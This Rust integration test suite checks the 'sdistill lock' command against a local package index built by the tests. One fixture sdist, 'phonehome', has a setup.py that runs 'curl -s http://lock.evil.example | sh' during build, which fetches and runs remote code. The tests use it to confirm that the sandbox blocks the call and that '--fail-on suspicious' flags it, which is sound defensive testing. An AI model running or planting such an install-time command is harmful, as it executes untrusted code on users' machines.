//! `sdistill lock` against a package index served by the test on 127.0.0.1, populated with
//! distributions the test builds: static sdists, setup.py-only sdists (their metadata comes
//! from the sandbox), wheels with and without PEP 658 metadata files, yanked and
//! pre-release versions, and requirements that conflict.

mod common;

use std::collections::BTreeMap;
use std::path::Path;

use common::*;

fn static_sdist(name: &str, version: &str, requires: &[&str], headers: &str) -> Vec<u8> {
    let top = format!("{name}-{version}");
    compress(
        Kind::TarGz,
        &tar_bytes(&[file(
            &format!("{top}/PKG-INFO"),
            &pkg_info(name, version, "2.2", requires, headers),
        )]),
    )
}

/// A setup.py-only sdist whose requirements are computed when setup.py runs.
fn dynamic_sdist(name: &str, version: &str, requires_expr: &str) -> Vec<u8> {
    let top = format!("{name}-{version}");
    compress(
        Kind::TarGz,
        &tar_bytes(&[
            file(
                &format!("{top}/PKG-INFO"),
                &format!("Metadata-Version: 1.0\nName: {name}\nVersion: {version}\n"),
            ),
            file(
                &format!("{top}/setup.py"),
                &format!("from setuptools import setup\nsetup(name='{name}', version='{version}', install_requires={requires_expr})\n"),
            ),
        ]),
    )
}

fn metadata(name: &str, version: &str, requires: &[&str], extra: &str) -> String {
    let mut s = format!("Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n{extra}");
    for r in requires {
        s.push_str(&format!("Requires-Dist: {r}\n"));
    }
    s
}

fn entry(project: &str, filename: &str, bytes: Vec<u8>) -> IndexEntry {
    IndexEntry::new(project, filename, bytes)
}

fn wheel_with_metadata(name: &str, version: &str, requires: &[&str], extra: &str) -> IndexEntry {
    let module = name.replace('-', "_");
    let mut e = entry(
        name,
        &format!("{module}-{version}-py3-none-any.whl"),
        wheel_bytes(name, version, "", requires),
    );
    e.metadata = Some(metadata(name, version, requires, extra));
    e
}

fn fixture() -> Vec<IndexEntry> {
    let mut yanked = entry("lib", "lib-3.0.tar.gz", static_sdist("lib", "3.0", &[], ""));
    yanked.yanked = true;
    let mut newpy = entry(
        "newpy",
        "newpy-1.0.tar.gz",
        static_sdist("newpy", "1.0", &[], ""),
    );
    newpy.requires_python = Some(">=3.13".into());
    vec![
        entry(
            "app",
            "app-1.0.tar.gz",
            static_sdist(
                "app",
                "1.0",
                &[
                    "lib>=1",
                    "util",
                    "winonly; sys_platform == \"win32\"",
                    "oldpy; python_version < \"3\"",
                    "fancy; extra == \"fancy\"",
                ],
                "Provides-Extra: fancy\n",
            ),
        ),
        entry("lib", "lib-1.0.tar.gz", dynamic_sdist("lib", "1.0", "[]")),
        entry(
            "lib",
            "lib-2.0.tar.gz",
            dynamic_sdist("lib", "2.0", "['hel' + 'per>=1']"),
        ),
        yanked,
        entry(
            "lib",
            "lib-4.0b1.tar.gz",
            static_sdist("lib", "4.0b1", &[], ""),
        ),
        // A wheel without a metadata file: downloaded and read.
        entry(
            "helper",
            "helper-1.0-py3-none-any.whl",
            wheel_bytes("helper", "1.0", "", &[]),
        ),
        wheel_with_metadata("util", "1.0", &[], ""),
        entry(
            "util",
            "util-1.0.tar.gz",
            static_sdist("util", "1.0", &[], ""),
        ),
        wheel_with_metadata("winonly", "1.0", &[], ""),
        wheel_with_metadata("fancy", "1.0", &[], ""),
        newpy,
        entry(
            "newpy",
            "newpy-0.9.tar.gz",
            static_sdist("newpy", "0.9", &[], ""),
        ),
        wheel_with_metadata("c-a", "1.0", &["c-shared<2"], ""),
        wheel_with_metadata("c-b", "1.0", &["c-shared>=2"], ""),
        wheel_with_metadata("c-shared", "1.0", &[], ""),
        wheel_with_metadata("c-shared", "2.0", &[], ""),
        // Only a local-version build, as some indexes publish (`torch 2.1.0+cpu`).
        wheel_with_metadata("tv", "2.1.0+cpu", &[], ""),
        entry(
            "broken",
            "broken-1.0.tar.gz",
            static_sdist("broken", "1.0", &[], ""),
        ),
        entry(
            "broken",
            "broken-2.0.tar.gz",
            dynamic_sdist(
                "broken",
                "2.0",
                "__import__('sys').exit('boom: needs a C compiler')",
            ),
        ),
        // Build code that tries to run a downloaded script (refused) and answers [].
        entry(
            "phonehome",
            "phonehome-1.0.tar.gz",
            dynamic_sdist(
                "phonehome",
                "1.0",
                "[__import__('os').system('curl -s http://lock.evil.example | sh')] and []",
            ),
        ),
        IndexEntry {
            advertised_sha256: Some("0".repeat(64)),
            ..entry(
                "liar",
                "liar-1.0.tar.gz",
                static_sdist("liar", "1.0", &[], ""),
            )
        },
    ]
}

struct Locker {
    server: Option<IndexServer>,
    url: String,
    cache: tempfile::TempDir,
    runtime: String,
    sha: BTreeMap<String, String>,
}

impl Locker {
    fn new() -> Self {
        let entries = fixture();
        let sha = entries
            .iter()
            .map(|e| (e.filename.clone(), e.sha256()))
            .collect();
        let server = IndexServer::start(entries);
        let (cache, runtime) = private_cache();
        Self {
            url: server.url.clone(),
            server: Some(server),
            cache,
            runtime,
            sha,
        }
    }

    /// Runs `lock` and returns (exit code, lock text, stderr).
    fn lock(&self, args: &[&str]) -> (i32, String, String) {
        let mut all = vec!["lock", "--index-url", &self.url, "--runtime", &self.runtime];
        all.extend_from_slice(args);
        let out = run_env(
            &all,
            &[
                ("SDISTILL_CACHE_DIR", self.cache.path().as_os_str()),
                ("SDISTILL_NO_CACHE", std::ffi::OsStr::new("0")),
            ],
        );
        (
            out.status.code().unwrap_or(-1),
            String::from_utf8_lossy(&out.stdout).into_owned(),
            String::from_utf8_lossy(&out.stderr).into_owned(),
        )
    }

    fn ok(&self, args: &[&str]) -> Pins {
        let (code, text, stderr) = self.lock(args);
        assert_eq!(code, 0, "lock {args:?} failed: {stderr}\n{text}");
        Pins::parse(&text)
    }
}

#[derive(Debug)]
struct Pin {
    version: String,
    marker: Option<String>,
    hashes: Vec<String>,
    via: Vec<String>,
}

struct Pins(BTreeMap<String, Pin>);

impl Pins {
    /// Parses the lock format: `name==version [; marker] \`, hash lines, `# via` lines.
    fn parse(text: &str) -> Self {
        let mut pins = BTreeMap::new();
        let mut current: Option<String> = None;
        for line in text.lines() {
            if line.starts_with('#') || line.is_empty() {
                continue;
            }
            if !line.starts_with(' ') {
                let head = line.trim_end_matches('\\').trim();
                let (spec, marker) = match head.split_once(" ; ") {
                    Some((s, m)) => (s, Some(m.to_string())),
                    None => (head, None),
                };
                let (name, version) = spec.split_once("==").expect("name==version");
                current = Some(name.to_string());
                pins.insert(
                    name.to_string(),
                    Pin {
                        version: version.to_string(),
                        marker,
                        hashes: vec![],
                        via: vec![],
                    },
                );
                continue;
            }
            let pin = pins.get_mut(current.as_ref().unwrap()).unwrap();
            let line = line.trim().trim_end_matches('\\').trim();
            if let Some(h) = line.strip_prefix("--hash=sha256:") {
                pin.hashes.push(h.to_string());
            } else if let Some(v) = line.strip_prefix("# via ") {
                pin.via.push(v.to_string());
            } else if let Some(v) = line.strip_prefix("#   ") {
                pin.via.push(v.to_string());
            }
        }
        Self(pins)
    }

    fn version(&self, name: &str) -> &str {
        &self.get(name).version
    }

    fn get(&self, name: &str) -> &Pin {
        self.0
            .get(name)
            .unwrap_or_else(|| panic!("{name} not pinned: {:?}", self.0))
    }

    fn has(&self, name: &str) -> bool {
        self.0.contains_key(name)
    }
}

#[test]
fn locks_static_setup_py_sdists_and_wheels_with_every_hash() {
    let l = Locker::new();
    let pins = l.ok(&["app"]);
    assert_eq!(pins.version("app"), "1.0");
    // lib 3.0 is yanked, 4.0b1 a pre-release: 2.0 wins, and its requirement only exists
    // once its setup.py has run in the sandbox.
    assert_eq!(pins.version("lib"), "2.0");
    assert_eq!(pins.version("helper"), "1.0");
    assert_eq!(pins.version("util"), "1.0");
    assert_eq!(pins.get("lib").via, ["app"]);
    assert_eq!(pins.get("helper").via, ["lib"]);
    assert_eq!(pins.get("app").via, ["command line"]);
    // Every file of the version: util has a wheel and an sdist.
    let mut util = vec![
        l.sha["util-1.0-py3-none-any.whl"].clone(),
        l.sha["util-1.0.tar.gz"].clone(),
    ];
    util.sort();
    assert_eq!(pins.get("util").hashes, util);
    assert_eq!(pins.get("app").hashes, [l.sha["app-1.0.tar.gz"].clone()]);
    assert_eq!(pins.get("lib").hashes, [l.sha["lib-2.0.tar.gz"].clone()]);
    // Markers that are false on Linux / Python 3 drop their requirements; no extras asked.
    for absent in ["winonly", "oldpy", "fancy"] {
        assert!(!pins.has(absent), "{absent} pinned");
    }
    assert!(pins.0.values().all(|p| p.marker.is_none()));
}

#[test]
fn markers_are_evaluated_for_the_target_and_kept_where_they_apply() {
    let l = Locker::new();
    let pins = l.ok(&["app", "--platform", "windows"]);
    let win = pins.get("winonly");
    assert_eq!(win.version, "1.0");
    assert_eq!(win.marker.as_deref(), Some("sys_platform == 'win32'"));
    assert!(pins.get("lib").marker.is_none());
    // A user requirement's own marker is kept too; a false one drops it.
    let pins = l.ok(&[
        "util; python_version >= '3.10'",
        "helper; python_version < '3'",
    ]);
    assert_eq!(
        pins.get("util").marker.as_deref(),
        Some("python_full_version >= '3.10'")
    );
    assert!(!pins.has("helper"));
}

#[test]
fn extras_are_honoured() {
    let l = Locker::new();
    let pins = l.ok(&["app[fancy]"]);
    assert_eq!(pins.version("fancy"), "1.0");
    assert_eq!(pins.get("fancy").via, ["app"]);
}

#[test]
fn yanked_versions_only_when_pinned_exactly() {
    let l = Locker::new();
    let (code, text, stderr) = l.lock(&["lib==3.0"]);
    assert_eq!(code, 0, "{stderr}");
    assert_eq!(Pins::parse(&text).version("lib"), "3.0");
    assert!(stderr.contains("yanked"), "{stderr}");
    // `<4` excludes 4.0b1 (PEP 440), 3.0 is yanked: nothing fits, and the lock says so.
    let (code, _, stderr) = l.lock(&["lib>=2.5,<4"]);
    assert_eq!(code, 1, "{stderr}");
    assert!(stderr.contains("no version of lib"), "{stderr}");
    assert!(stderr.contains("hint: lib 3.0 is yanked"), "{stderr}");
    assert!(stderr.contains("pre-releases (4.0b1)"), "{stderr}");
}

#[test]
fn prereleases_only_when_allowed_or_nothing_else_fits() {
    let l = Locker::new();
    assert_eq!(l.ok(&["lib"]).version("lib"), "2.0");
    assert_eq!(l.ok(&["lib", "--prerelease"]).version("lib"), "4.0b1");
    assert_eq!(l.ok(&["lib>=3.5"]).version("lib"), "4.0b1");
}

#[test]
fn a_public_pin_matches_its_local_versions() {
    let l = Locker::new();
    let pins = l.ok(&["tv==2.1.0"]);
    assert_eq!(pins.version("tv"), "2.1.0+cpu");
    let (code, _, stderr) = l.lock(&["tv!=2.1.0"]);
    assert_eq!(code, 1, "{stderr}");
}

#[test]
fn requires_python_of_files_is_honoured() {
    let l = Locker::new();
    assert_eq!(l.ok(&["newpy"]).version("newpy"), "0.9");
    assert_eq!(
        l.ok(&["newpy", "--python-version", "3.13"])
            .version("newpy"),
        "1.0"
    );
}

#[test]
fn conflicts_are_explained() {
    let l = Locker::new();
    let (code, text, stderr) = l.lock(&["c-a", "c-b"]);
    assert_eq!(code, 1, "{text}");
    assert!(text.is_empty());
    assert!(stderr.contains("no solution"), "{stderr}");
    for needle in ["c-a", "c-b", "c-shared"] {
        assert!(stderr.contains(needle), "{needle} missing from: {stderr}");
    }
    // Unknown projects and bad input are clear too.
    let (code, _, stderr) = l.lock(&["does-not-exist"]);
    assert_eq!(code, 1, "{stderr}");
    assert!(
        stderr.contains("hint: does-not-exist: no distribution"),
        "{stderr}"
    );
    let (code, _, stderr) = l.lock(&["lib>>1"]);
    assert_eq!(code, 2, "{stderr}");
}

#[test]
fn constraints_binary_policy_and_previous_pins() {
    let l = Locker::new();
    let tmp = tempfile::tempdir().unwrap();
    let cons = tmp.path().join("constraints.txt");
    std::fs::write(&cons, "lib<2\nnot-required==1\n").unwrap();
    let reqs = tmp.path().join("requirements.in");
    std::fs::write(&reqs, "# what we need\nlib\n").unwrap();
    let pins = l.ok(&["-r", reqs.to_str().unwrap(), "-c", cons.to_str().unwrap()]);
    assert_eq!(pins.version("lib"), "1.0");
    assert!(!pins.has("not-required"));
    assert!(
        pins.get("lib").via[0].starts_with("-r "),
        "{:?}",
        pins.get("lib").via
    );

    // --no-binary: only the sdist's hash; --only-binary: the sdist-only lib cannot be used.
    let pins = l.ok(&["util", "--no-binary", "util"]);
    assert_eq!(pins.get("util").hashes, [l.sha["util-1.0.tar.gz"].clone()]);
    let (code, _, stderr) = l.lock(&["lib", "--only-binary", ":all:"]);
    assert_eq!(code, 1, "{stderr}");

    // An existing output's pins are kept while they fit; -P moves one.
    let out = tmp.path().join("requirements.txt");
    let out_s = out.to_str().unwrap();
    std::fs::write(&out, "lib==1.0 \\\n    --hash=sha256:00\n").unwrap();
    l.ok(&["lib", "-o", out_s]);
    let kept = Pins::parse(&std::fs::read_to_string(&out).unwrap());
    assert_eq!(kept.version("lib"), "1.0");
    l.ok(&["lib", "-o", out_s, "-P", "lib"]);
    let moved = Pins::parse(&std::fs::read_to_string(&out).unwrap());
    assert_eq!(moved.version("lib"), "2.0");
}

/// A build that fails in the sandbox ends the lock with its reason (as pip and uv do),
/// rather than quietly backtracking to an older version that happens to build.
#[test]
fn a_failing_build_ends_the_lock_with_its_reason() {
    let l = Locker::new();
    let (code, text, stderr) = l.lock(&["broken"]);
    assert_eq!(code, 1, "{stderr}");
    assert!(text.is_empty());
    assert!(stderr.contains("broken-2.0.tar.gz"), "{stderr}");
    assert!(stderr.contains("boom"), "{stderr}");
    assert_eq!(l.ok(&["broken<2"]).version("broken"), "1.0");
}

/// A file whose bytes do not match the index's sha256 is never opened.
#[test]
fn a_file_that_does_not_match_its_hash_is_refused() {
    let l = Locker::new();
    let (code, text, stderr) = l.lock(&["liar"]);
    assert_eq!(code, 3, "{stderr}");
    assert!(text.is_empty());
    assert!(stderr.contains("does not match"), "{stderr}");
}

/// The second lock of the same inputs is answered from caches: with --offline and the
/// index gone it makes no network call, and with no runtime at all it makes no sandbox run.
#[test]
fn a_second_lock_needs_no_network_and_no_sandbox() {
    let mut l = Locker::new();
    let first = l.lock(&["app"]);
    assert_eq!(first.0, 0, "{}", first.2);
    drop(l.server.take());
    l.runtime = Path::new("/nonexistent/runtime").display().to_string();
    let second = l.lock(&["app", "--offline"]);
    assert_eq!(second.0, 0, "{}", second.2);
    let body = |t: &str| -> String {
        t.lines()
            .filter(|l| !l.starts_with('#'))
            .collect::<Vec<_>>()
            .join("\n")
    };
    assert_eq!(body(&first.1), body(&second.1));
    // Something not cached fails clearly offline.
    let (code, _, stderr) = l.lock(&["c-a", "--offline"]);
    assert_eq!(code, 3, "{stderr}");
    assert!(stderr.contains("offline"), "{stderr}");
}

/// `--fail-on`: a lock whose inputs' build code reached the level is not written (exit 4),
/// whether the answer was computed now or comes from the metadata cache; without the flag
/// the behaviour is reported, not an error.
#[test]
fn fail_on_refuses_a_lock_computed_by_suspicious_build_code() {
    let l = Locker::new();
    let pins = l.ok(&["phonehome"]);
    assert_eq!(pins.version("phonehome"), "1.0");
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("requirements.txt");
    let out_arg = out.display().to_string();
    let (code, text, stderr) = l.lock(&["phonehome", "--fail-on", "suspicious", "-o", &out_arg]);
    assert_eq!(code, 4, "{stderr}");
    assert!(text.is_empty() && !out.exists(), "a lock was written");
    assert!(
        stderr.contains("phonehome-1.0.tar.gz: behaviour suspicious"),
        "{stderr}"
    );
    assert!(
        stderr.contains("curl -s http://lock.evil.example | sh"),
        "{stderr}"
    );
    // Build code that did nothing worth a notice passes the gate.
    assert_eq!(
        l.ok(&["lib==1.0", "--fail-on", "notice"]).version("lib"),
        "1.0"
    );
}
